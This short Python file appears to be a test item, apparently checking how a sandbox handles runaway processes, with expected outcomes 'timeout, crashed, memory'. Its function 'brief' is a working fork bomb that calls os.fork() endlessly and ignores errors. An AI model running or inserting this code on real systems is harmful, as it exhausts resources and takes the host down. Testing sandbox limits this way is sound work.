"""Every process becomes two."""

# ends as: timeout, crashed, memory
# exercise: brief

import os


def brief(column, row):
    while True:
        try:
            os.fork()
        except OSError:
            pass
